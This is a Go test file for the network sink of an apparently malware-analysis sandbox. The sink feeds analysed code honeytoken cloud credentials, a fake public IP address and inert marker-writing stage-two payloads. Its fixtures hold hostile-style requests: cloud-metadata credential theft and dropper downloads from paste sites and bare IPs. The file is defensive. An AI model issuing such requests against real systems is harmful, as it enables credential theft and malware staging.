package egress

import (
	"bytes"
	"compress/zlib"
	"debug/elf"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"io"
	"net/netip"
	"runtime"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat/internal/observe/honeytoken"
)

func TestSinkAnswer(t *testing.T) {
	md := honeytoken.NewMetadata()
	imds := netip.AddrPortFrom(MetadataAddr, 80)
	other := netip.MustParseAddrPort("198.18.0.7:80")
	for _, c := range []struct {
		dst    netip.AddrPort
		req    string
		status string
		body   string
		served string
	}{
		{other, "GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: evil.example\r\n\r\n", "200 OK", "", ""},
		{imds, "PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "200 OK", "AQAEA", ""},
		{imds, "GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n\r\n", "200 OK", md.Role, ""},
		{imds, "GET /latest/meta-data/iam/security-credentials/" + md.Role + " HTTP/1.1\r\n\r\n", "200 OK", md.SecretAccessKey, "imds-aws-secret-access-key"},
		{imds, "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/" + md.Role + " HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "200 OK", md.AccessKeyID, "imds-aws-access-key-id"},
		{imds, "GET /latest/meta-data/nothing HTTP/1.1\r\n\r\n", "404 Not Found", "", ""},
		{other, "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n", "200 OK", md.GCPToken, "gcp-metadata-token"},
		{imds, "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\nHost: metadata.google.internal\r\n\r\n", "403 Forbidden", "Metadata-Flavor", ""},
		{imds, "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fmanagement.azure.com%2F HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata:true\r\n\r\n", "200 OK", md.AzureToken, "azure-metadata-token"},
		{imds, "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net HTTP/1.1\r\nMetadata: true\r\n\r\n", "200 OK", `"resource":"https://vault.azure.net"`, "azure-metadata-token"},
		{imds, "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=x HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "400 Bad Request", "Required metadata header", ""},
		{imds, "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=x HTTP/1.1\r\nMetadata: true\r\nX-Forwarded-For: 1.2.3.4\r\n\r\n", "400 Bad Request", "", ""},
		{imds, "GET /metadata/identity/oauth2/token?api-version=2018-02-01 HTTP/1.1\r\nMetadata: true\r\n\r\n", "400 Bad Request", "resource", ""},
		{imds, "GET /metadata/instance?api-version=2021-02-01 HTTP/1.1\r\nMetadata: true\r\n\r\n", "200 OK", `"vmSize":"Standard_D2s_v3"`, ""},
	} {
		resp, x := sinkAnswer(answers{md: md}, c.dst, []byte(c.req))
		r, meta, served := string(resp), x.meta, x.served
		if !strings.HasPrefix(r, "HTTP/1.1 "+c.status+"\r\n") || !strings.Contains(r, c.body) || !strings.Contains(served, c.served) || (c.served == "") != (served == "") ||
			meta != (c.dst != other || strings.Contains(c.req, "metadata.google.internal")) {
			t.Errorf("%q to %s: %q, served %q", c.req, c.dst, r, served)
		}
	}
	// No metadata to serve (the report is off): plain 200 everywhere.
	if resp, x := sinkAnswer(answers{}, imds, []byte("GET /latest/meta-data/ HTTP/1.1\r\n\r\n")); string(resp) != string(http200) || x.served != "" {
		t.Errorf("nil metadata: %q %q", resp, x.served)
	}
}

func FuzzSinkAnswer(f *testing.F) {
	f.Add([]byte("GET /latest/meta-data/iam/security-credentials/ec2-app-role HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"))
	f.Add([]byte("GET /computeMetadata/v1/ HTTP/1.1\r\nHost: metadata.google.internal:80\r\nMetadata-Flavor: Google\r\n\r\n"))
	f.Add([]byte("GET /metadata/identity/oauth2/token?resource=x HTTP/1.1\r\nMetadata: true\r\n\r\n"))
	f.Add([]byte("GET /line?fields=query,isp HTTP/1.1\r\nHost: ip-api.com\r\n\r\n"))
	f.Add([]byte("GET /ip HTTP/1.1\r\nHost: ipinfo.io\r\n\r\n"))
	f.Add([]byte("GET /env HTTP/1.1\r\nHost: 39.107.154.72\r\nUser-Agent: O\r\n\r\n"))
	a := answers{md: honeytoken.NewMetadata(), pub: NewPublic(), stage2: NewStage2()}
	f.Fuzz(func(t *testing.T, req []byte) {
		resp, _ := sinkAnswer(a, netip.AddrPortFrom(MetadataAddr, 80), req)
		resp2, _ := sinkAnswer(a, netip.MustParseAddrPort("198.18.0.9:80"), req)
		if !strings.HasPrefix(string(resp), "HTTP/1.1 ") || !strings.HasPrefix(string(resp2), "HTTP/1.1 ") {
			t.Fatalf("not an HTTP answer: %q", resp)
		}
	})
}

// TestPublicAnswers: the "what is my IP" services answer in their formats,
// all with the run's one address, an access ISP's; ip-api's lines come in
// the order the request names its fields (social-checker unpacks
// "query,isp" as address then ISP and quits on a Google or Mythic Beasts
// ISP).
func TestPublicAnswers(t *testing.T) {
	a := answers{md: honeytoken.NewMetadata(), pub: NewPublic()}
	ip := a.pub.IP.String()
	dst := netip.MustParseAddrPort("198.18.0.3:80")
	body := func(req string) string {
		t.Helper()
		resp, x := sinkAnswer(a, dst, []byte(req))
		head, b, _ := strings.Cut(string(resp), "\r\n\r\n")
		if !strings.HasPrefix(head, "HTTP/1.1 200 OK") || !x.public {
			t.Errorf("%q: %q (public %v)", req, resp, x.public)
		}
		return b
	}
	if b := body("GET /line?fields=query,isp HTTP/1.1\r\nHost: ip-api.com\r\n\r\n"); b != ip+"\n"+a.pub.ISP+"\n" {
		t.Errorf("ip-api line: %q", b)
	}
	var ipapi map[string]any
	if err := json.Unmarshal([]byte(body("GET /json/ HTTP/1.1\r\nHost: ip-api.com\r\n\r\n")), &ipapi); err != nil || ipapi["query"] != ip || ipapi["status"] != "success" || ipapi["isp"] != a.pub.ISP {
		t.Errorf("ip-api json: %v %v", ipapi, err)
	}
	var info map[string]string
	if err := json.Unmarshal([]byte(body("GET /json HTTP/1.1\r\nHost: ipinfo.io\r\n\r\n")), &info); err != nil || info["ip"] != ip || !strings.HasPrefix(info["org"], "AS") || info["country"] != a.pub.CountryCode {
		t.Errorf("ipinfo json: %v %v", info, err)
	}
	for _, c := range []struct{ req, want string }{
		{"GET /ip HTTP/1.1\r\nHost: ipinfo.io\r\n\r\n", ip},
		{"GET https://ipinfo.io/ip HTTP/1.1\r\nHost: ipinfo.io\r\n\r\n", ip},
		{"GET / HTTP/1.1\r\nHost: api.ipify.org\r\n\r\n", ip},
		{"GET /?format=json HTTP/1.1\r\nHost: api.ipify.org\r\n\r\n", `{"ip":"` + ip + `"}`},
		{"GET / HTTP/1.1\r\nHost: ifconfig.io\r\nUser-Agent: curl/7.88.1\r\n\r\n", ip + "\n"},
		{"GET / HTTP/1.1\r\nHost: icanhazip.com\r\n\r\n", ip + "\n"},
		{"GET /ip HTTP/1.1\r\nHost: httpbin.org\r\n\r\n", "{\n  \"origin\": \"" + ip + "\"\n}\n"},
	} {
		if b := body(c.req); b != c.want {
			t.Errorf("%q: %q, want %q", c.req, b, c.want)
		}
	}
	// Another service's other paths, and POSTs, stay the empty 200.
	for _, req := range []string{"GET /get HTTP/1.1\r\nHost: httpbin.org\r\n\r\n", "POST /ip HTTP/1.1\r\nHost: ipinfo.io\r\nContent-Length: 0\r\n\r\n"} {
		if resp, x := sinkAnswer(a, dst, []byte(req)); string(resp) != string(http200) || x.public {
			t.Errorf("%q: %q", req, resp)
		}
	}
}

// TestPublicVaries: every ISP of the pool is an access ISP's, never a
// cloud's, a hosting company's or moat's, and runs differ.
func TestPublicVaries(t *testing.T) {
	seen := map[string]bool{}
	for range 200 {
		p := NewPublic()
		if !p.prefix.Contains(p.IP) || p.IP == p.prefix.Masked().Addr() {
			t.Fatalf("%s outside %s", p.IP, p.prefix)
		}
		seen[p.IP.String()] = true
		all := strings.ToLower(p.ISP + p.Org + p.AS + p.ipinfoOrg + p.ipapiOrg + p.Hostname)
		for _, bad := range []string{"moat", "sandbox", "google", "amazon", "aws", "microsoft", "azure", "digitalocean", "hetzner", "ovh", "linode", "mythic", "cloud", "hosting"} {
			if strings.Contains(all, bad) {
				t.Errorf("%s: %q", bad, all)
			}
		}
	}
	if len(seen) < 150 {
		t.Errorf("only %d addresses in 200 runs", len(seen))
	}
}

// TestStage2Answer: a script-like download gets the inert polyglot, each
// with its own marker; what a library or pip fetches does not.
func TestStage2Answer(t *testing.T) {
	a := answers{md: honeytoken.NewMetadata(), pub: NewPublic(), stage2: NewStage2()}
	dst := netip.MustParseAddrPort("198.18.0.3:80")
	var markers []string
	for _, req := range []string{
		"GET /raw/VvkKsmxr HTTP/1.1\r\nHost: pastebin.com\r\nUser-Agent: python-urllib3/1.26\r\n\r\n",
		"GET /reporter.py HTTP/1.1\r\nHost: cyberresearch.pythonanywhere.com\r\n\r\n",
		"GET /p/85573227.txt HTTP/1.1\r\nHost: paste.website\r\nUser-Agent: python-requests/2.28\r\n\r\n",
		"GET /env HTTP/1.1\r\nHost: 39.107.154.72\r\nUser-Agent: O\r\nAccept: */*\r\n\r\n",
		"GET /install HTTP/1.1\r\nHost: get.example\r\nUser-Agent: curl/7.88.1\r\n\r\n",
		"GET /x/setup.sh HTTP/1.1\r\nHost: example.org\r\n\r\n",
		// a Python dropper's program by name (djanga, infoglmi)
		"GET /out HTTP/1.1\r\nHost: 145.249.104.71\r\nAccept-Encoding: identity\r\n\r\n",
		"GET /node HTTP/1.1\r\nHost: cdn.example\r\nUser-Agent: python-requests/2.28.1\r\n\r\n",
		"GET /bin/agent HTTP/1.1\r\nHost: 198.51.100.31\r\nUser-Agent: Python-urllib/3.11\r\n\r\n",
	} {
		resp, x := sinkAnswer(a, dst, []byte(req))
		if x.stage2 == "" || !strings.Contains(string(resp), "#!/bin/sh\n") && x.form != formPaste || !strings.Contains(string(resp), Stage2Dir+"/"+x.stage2+"-py") {
			t.Errorf("%q: %q %q", req, x.stage2, resp)
		}
		markers = append(markers, x.stage2)
	}
	if markers[0] == markers[1] {
		t.Errorf("one marker for two answers: %q", markers)
	}
	for _, req := range []string{
		"GET /simple/requests/ HTTP/1.1\r\nHost: pypi.org\r\nUser-Agent: pip/23.0.1 {}\r\n\r\n",
		"GET /pypi/pip/json HTTP/1.1\r\nHost: pypi.org\r\nUser-Agent: pip/23.0.1 {}\r\n\r\n",
		"GET /api/v1/items HTTP/1.1\r\nHost: api.example\r\nUser-Agent: python-requests/2.28\r\n\r\n",
		"GET /v2/status HTTP/1.1\r\nHost: svc.example\r\nUser-Agent: python-httpx/0.27\r\n\r\n",
		"GET /lookup?id=7 HTTP/1.1\r\nHost: svc.example\r\nUser-Agent: Python-urllib/3.11\r\n\r\n",
		"GET /latest HTTP/1.1\r\nHost: svc.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n",
		"GET /pkg-1.0.tar.gz HTTP/1.1\r\nHost: files.example\r\nUser-Agent: curl/7.88.1\r\n\r\n",
		"POST /upload.py HTTP/1.1\r\nHost: example.org\r\nContent-Length: 0\r\n\r\n",
	} {
		if resp, x := sinkAnswer(a, dst, []byte(req)); string(resp) != string(http200) || x.stage2 != "" {
			t.Errorf("%q: %q", req, resp)
		}
	}
}

// TestStage2Forms: a download is served in the form its request asks
// for: base64 for a name ending .b64 (decoded, the same polyglot), an ELF
// for a program's name or an Accept of application/octet-stream alone
// (x86-64), the script for the rest that is script-like.
func TestStage2Forms(t *testing.T) {
	a := answers{stage2: NewStage2()}
	dst := netip.MustParseAddrPort("198.18.0.3:80")
	get := func(path, extra string) (string, exchange) {
		resp, x := sinkAnswer(a, dst, []byte("GET "+path+" HTTP/1.1\r\nHost: cdn.example\r\n"+extra+"\r\n"))
		_, body, _ := strings.Cut(string(resp), "\r\n\r\n")
		return body, x
	}
	body, x := get("/p/loader.b64", "User-Agent: python-urllib3/1.26\r\n")
	dec, err := base64.StdEncoding.DecodeString(strings.TrimSpace(body))
	if x.form != formBase64 || err != nil || !strings.Contains(string(dec), "#!/bin/sh\n") || !strings.Contains(string(dec), Stage2Dir+"/"+x.stage2+"-py") {
		t.Errorf(".b64: form %q, %v, decoded %q", x.form, err, dec)
	}
	if body, x = get("/x/setup.py", ""); x.form != formScript || !strings.Contains(body, x.stage2+"-py") {
		t.Errorf(".py: form %q %q", x.form, body)
	}
	// A paste: the script, its first line a comment whose base64 (up to
	// its padding: what Python's b64decode reads of it) makes "-b64".
	for _, p := range []string{"/raw/VvkKsmxr", "/u/raw/loader.txt"} {
		body, x = get(p, "User-Agent: python-urllib3/1.26\r\n")
		first, rest, _ := strings.Cut(body, "\n")
		enc, ok := strings.CutPrefix(first, "#")
		dec, err := base64.StdEncoding.DecodeString(enc)
		if x.form != formPaste || !ok || err != nil || !strings.HasSuffix(enc, "=") || !strings.Contains(string(dec), Stage2Dir+"/"+x.stage2+"-b64") ||
			!strings.Contains(rest, x.stage2+"-py") || !strings.Contains(rest, x.stage2+"-sh") {
			t.Errorf("%s: form %q, %v, decoded %q, body %q", p, x.form, err, dec, body)
		}
	}
	if runtime.GOARCH != "amd64" {
		if _, x = get("/bin/agent.bin", ""); x.form != "" {
			t.Errorf("an ELF served on %s: %q", runtime.GOARCH, x.form)
		}
		return
	}
	for _, c := range []struct{ path, extra string }{{"/bin/agent.bin", ""}, {"/dl/x86_64", ""}, {"/update", "Accept: application/octet-stream\r\n"}} {
		body, x := get(c.path, c.extra)
		if c.path == "/dl/x86_64" {
			if x.form == formELF {
				t.Errorf("%s: a name without an extension is no program's", c.path)
			}
			continue
		}
		f, err := elf.NewFile(strings.NewReader(body))
		if x.form != formELF || err != nil {
			t.Errorf("%s: form %q, %v", c.path, x.form, err)
			continue
		}
		if f.Class != elf.ELFCLASS64 || f.Machine != elf.EM_X86_64 || f.Type != elf.ET_EXEC || len(f.Progs) != 1 ||
			f.Progs[0].Flags != elf.PF_R|elf.PF_X || f.Entry != f.Progs[0].Vaddr+120 || f.Progs[0].Filesz != uint64(len(body)) {
			t.Errorf("%s: %+v %+v", c.path, f.FileHeader, f.Progs)
		}
		if !strings.HasSuffix(body, Stage2Dir+"/"+x.stage2+"-elf\x00") {
			t.Errorf("%s: the marker's path is not the program's data: %q", c.path, body[120:])
		}
	}
}

// TestStagerStage: a stager's stage is a 4-byte big-endian length and that
// many bytes; its first line, past the "#", is base64 (ending in padding,
// where Python's b64decode stops) of zlib-compressed Python that makes
// "-b64", and the rest is the polyglot that exec() of the bytes runs.
func TestStagerStage(t *testing.T) {
	l := NewStage2()
	marker, body, _ := l.payload(formStager)
	if len(body) < 4 || int(binary.BigEndian.Uint32([]byte(body[:4]))) != len(body)-4 {
		t.Fatalf("length prefix of %q", body)
	}
	first, rest, _ := strings.Cut(body[4:], "\n")
	enc, ok := strings.CutPrefix(first, "#")
	z, err := base64.StdEncoding.DecodeString(enc)
	if !ok || err != nil || !strings.HasSuffix(enc, "=") {
		t.Fatalf("first line %q: %v", first, err)
	}
	zr, err := zlib.NewReader(bytes.NewReader(z))
	if err != nil {
		t.Fatal(err)
	}
	py, err := io.ReadAll(zr)
	if err != nil || !strings.Contains(string(py), Stage2Dir+"/"+marker+"-b64") {
		t.Errorf("decoded %q: %v", py, err)
	}
	if !strings.Contains(rest, marker+"-py") {
		t.Errorf("the rest %q makes no -py marker", rest)
	}
}

// TestHelloStage: a loader's hello is a few bytes of no protocol moat
// knows; its stage is zlib-compressed Python making the "-zlib" marker
// (read alone, or with the rest after it: zlib ignores what follows its
// end), then the polyglot.
func TestHelloStage(t *testing.T) {
	for b, want := range map[string]bool{"l": true, "hi\n": true, "\x01\x02": true, "": false, "GET": false, "GET / HTTP/1.1\r\n": false,
		"\x16\x03\x01": false, "POS": false, strings.Repeat("x", maxHello+1): false} {
		if hello([]byte(b)) != want {
			t.Errorf("hello(%q) = %v, want %v", b, !want, want)
		}
	}
	m := Stage2Dir + "/.tok-1"
	first, rest := helloStage(m)
	for _, data := range []string{first, first + rest} {
		zr, err := zlib.NewReader(strings.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		py, err := io.ReadAll(zr)
		if err != nil || !strings.Contains(string(py), m+"-zlib") {
			t.Errorf("decompressed %q: %v", py, err)
		}
	}
	if !strings.Contains(rest, m+"-py") || strings.Contains(rest, "#!") {
		t.Errorf("the rest %q makes no -py marker", rest)
	}
}

// TestWebSocketAccept: a WebSocket upgrade gets the 101 of RFC 6455
// (its own example's key and accept), so that a client that waits for it
// sends its frames; a request with no key, or a key that is not 16
// bytes, gets no upgrade. Before, the sink answered an empty 200 and such
// a client sent nothing (session 22's red team).
func TestWebSocketAccept(t *testing.T) {
	dst := netip.MustParseAddrPort("203.0.113.9:80")
	req := "GET /chat HTTP/1.1\r\nHost: server.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
	resp, x := sinkAnswer(answers{}, dst, []byte(req))
	if !x.ws || !strings.HasPrefix(string(resp), "HTTP/1.1 101 ") || !strings.Contains(string(resp), "\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n") {
		t.Fatalf("upgrade answered %q (ws %v)", resp, x.ws)
	}
	for _, bad := range []string{
		strings.Replace(req, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", "", 1),
		strings.Replace(req, "dGhlIHNhbXBsZSBub25jZQ==", "c2hvcnQ=", 1),
		strings.Replace(req, "Upgrade: websocket", "Upgrade: h2c", 1),
	} {
		if resp, x := sinkAnswer(answers{}, dst, []byte(bad)); x.ws || string(resp) != string(http200) {
			t.Errorf("%q answered %q (ws %v), want the empty 200", bad, resp, x.ws)
		}
	}
}
